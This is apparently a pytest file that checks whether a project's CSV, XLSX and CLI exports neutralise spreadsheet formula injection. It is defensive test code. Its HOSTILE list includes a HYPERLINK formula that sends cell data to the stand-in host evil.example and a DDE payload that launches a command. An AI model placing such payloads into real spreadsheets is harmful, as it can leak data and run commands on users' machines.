"""CSV and XLSX exports against formula injection (issue 13, item 10): support staff open them
in Excel or WPS, so a cell from outside that starts with = + - @ TAB CR is never a formula."""

from __future__ import annotations

import csv
from decimal import Decimal
from operator import attrgetter
from types import SimpleNamespace

import openpyxl

from gene_desk.cli import account_cmds
from gene_desk.ui.account import export
from gene_desk.ui.account.columns import Column, Kind

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
]
COLUMNS = [
    Column("Title", Kind.TEXT, attrgetter("title"), stretch=True),
    Column("Amount", Kind.MONEY, attrgetter("amount")),
]
RECORDS = [SimpleNamespace(title=t, amount=Decimal("-12.50")) for t in [*HOSTILE, "plain"]]


def _never_a_formula(cell: str) -> None:
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_account_csv_export_neutralises_formulas(tmp_path):
    target = tmp_path / "x.csv"
    export.write_csv(target, COLUMNS, ["Title", "Amount"], RECORDS)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    for row, text in zip(rows, [*HOSTILE, "plain"], strict=True):
        _never_a_formula(row[0])
        shown = text.replace("\t", "\\t").replace("\r", "\\r")
        assert row[0] == (shown if text == "plain" else "'" + shown)  # still readable
        assert row[1] == "-12.50"  # a negative amount stays a number
    assert rows[0][0] == "'=1+2" and rows[-1][0] == "plain"
    assert rows[5][0] == "'\\t=1+2"  # and a control character is shown, not obeyed


def test_account_xlsx_export_writes_text_never_formulas(tmp_path):
    target = tmp_path / "x.xlsx"
    export.write_xlsx(target, COLUMNS, ["=Title", "Amount"], RECORDS)
    sheet = openpyxl.load_workbook(target).worksheets[0]
    rows = list(sheet.iter_rows())
    assert rows[0][0].data_type == "s" and rows[0][0].value == "=Title"
    for row, text in zip(rows[1:], [*HOSTILE, "plain"], strict=True):
        assert row[0].data_type == "s", row[0].value  # not "f"
        assert row[0].value == text.replace("\t", "\\t").replace("\r", "\\r")
        assert row[1].data_type == "n" and Decimal(str(row[1].value)) == Decimal("-12.50")
    assert rows[1][0].quotePrefix  # stays text when edited in Excel


def test_account_cli_csv_neutralises_formulas(tmp_path):
    target = tmp_path / "cli.csv"
    account_cmds.write_csv(target, ["Title", "Amount"], [[t, "-12.50"] for t in HOSTILE])
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    for row in rows:
        _never_a_formula(row[0])
        assert row[1] == "-12.50"
